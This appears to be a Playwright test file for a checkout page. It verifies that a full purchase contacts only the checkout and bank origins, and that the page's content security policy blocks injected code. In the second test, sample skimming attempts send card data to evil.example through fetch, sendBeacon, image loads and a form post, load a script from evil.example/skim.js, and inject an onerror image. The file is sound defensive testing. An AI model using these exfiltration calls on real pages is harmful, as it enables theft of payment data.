import type { BrowserContext } from '@playwright/test';
import { cards } from '../support/cards.ts';
import { chargesOf } from '../support/ledger.ts';
import { SERVICE_TOKEN } from '../support/programs.ts';
import { expect, test } from './test.ts';

/** Each violation of a policy that any page of the context meets, as the browser tells the page itself. */
async function watchViolations(context: BrowserContext): Promise<readonly string[]> {
  const violations: string[] = [];
  await context.exposeBinding('reportViolation', (_source, told: string) => {
    violations.push(told);
  });
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const tell = (globalThis as unknown as { reportViolation: (told: string) => void }).reportViolation;
      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
    });
  });
  return violations;
}

test('a whole purchase violates no policy, and talks to the checkout and the bank alone', async ({
  page,
  context,
  checkout,
  programs,
}) => {
  const violations = await watchViolations(context);
  const origins = new Set<string>();
  context.on('request', (request) => origins.add(new URL(request.url()).origin));

  await page.goto('/');
  await checkout.button('Add to cart').nth(1).click();
  await checkout.button('Check out').click();
  await page.waitForURL(/\/checkout\/cs_/);
  const sessionId = new URL(page.url()).pathname.split('/').at(-1) ?? '';
  const policed = await page.evaluate(() => ({
    features: (
      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
    ).featurePolicy.allowedFeatures(),
    isolated: crossOriginIsolated,
    alone: originAgentCluster,
  }));
  expect(policed.features.filter((feature) => !feature.startsWith('ch-'))).toEqual(['aria-notify']);
  expect(policed).toMatchObject({ isolated: false, alone: true });

  await checkout.fill({ card: cards.declined });
  await checkout.payButton.click();
  await expect(checkout.problem).toBeVisible();
  await checkout.typeCard(cards.challenged);
  await checkout.payButton.click();
  await expect(checkout.button('Approve')).toBeVisible();
  const bank = new URL(page.url()).origin;
  await checkout.button('Approve').click();
  await expect(checkout.receipt).toBeVisible();
  expect(await chargesOf(programs, sessionId)).toHaveLength(1);
  await page.getByRole('combobox').first().selectOption({ index: 1 });
  expect(violations).toEqual([]);
  expect([...origins].sort()).toEqual([new URL(programs.checkoutUrl).origin, bank].sort());
});

test('page policy: injected code runs nothing, sends nothing, and is counted', async ({
  page,
  context,
  checkout,
  programs,
  problems,
}) => {
  const violations = await watchViolations(context);
  problems.allow(/Content Security Policy|Content-Security-Policy|Trusted|404 \(Not Found\)/i);
  await checkout.open();
  await checkout.field('Card number').waitFor();
  const sent: string[] = [];
  context.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('evil.example')) sent.push(request.url());
  });
  context.on('requestfailed', (request) => {
    // Stopped before it left.
    if (request.failure()?.errorText === 'csp') sent.splice(sent.indexOf(request.url()), 1);
  });
  const thrown = await page.evaluate(async () => {
    const attempt = async (act: () => unknown) => {
      try {
        await act();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    const script = document.createElement('script');
    const form = document.createElement('form');
    form.action = 'https://evil.example/form';
    document.body.append(form);
    return {
      markup: await attempt(() => {
        document.body.innerHTML = '<img src=x onerror=1>';
      }),
      script: await attempt(() => {
        script.src = 'https://evil.example/skim.js';
      }),
      // From a timer: a debugger's own call may evaluate what the page may not.
      eval: await new Promise((resolve) => {
        // biome-ignore lint/security/noGlobalEval: what a stranger's code would try
        setTimeout(() => resolve(attempt(() => globalThis.eval('1'))));
      }),
      policy: await attempt(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('any', {}),
      ),
      fetch: await attempt(() => fetch('https://4242.evil.example/?card=1')),
      beacon: await attempt(() => navigator.sendBeacon('https://evil.example/', 'card')),
      image: await attempt(() => {
        new Image().src = 'https://evil.example/?card=1';
      }),
      form: await attempt(() => form.submit()),
    };
  });
  expect(thrown).toMatchObject({
    markup: 'TypeError',
    script: 'TypeError',
    eval: 'EvalError',
    policy: 'TypeError',
    fetch: 'TypeError',
  });

  const metrics = async () => {
    const answer = await fetch(`${programs.checkoutUrl}/metrics`, {
      headers: { authorization: `Bearer ${SERVICE_TOKEN}` },
    });
    return answer.text();
  };
  for (const counted of [
    'directive="require-trusted-types-for",blocked="trusted-types"',
    'directive="trusted-types",blocked="trusted-types"',
    'directive="connect-src",blocked="address"',
    'directive="img-src",blocked="address"',
    'directive="form-action",blocked="address"',
  ])
    await expect.poll(metrics).toContain(`checkout_csp_violations_total{${counted}}`);
  expect(violations.length, 'the watch of the other test sees them').toBeGreaterThanOrEqual(5);
  expect(sent).toEqual([]);
  expect(new URL(page.url()).origin).toBe(new URL(programs.checkoutUrl).origin);
  expect(programs.apiOutput()).not.toMatch(/4242\.evil|card=1/);
});
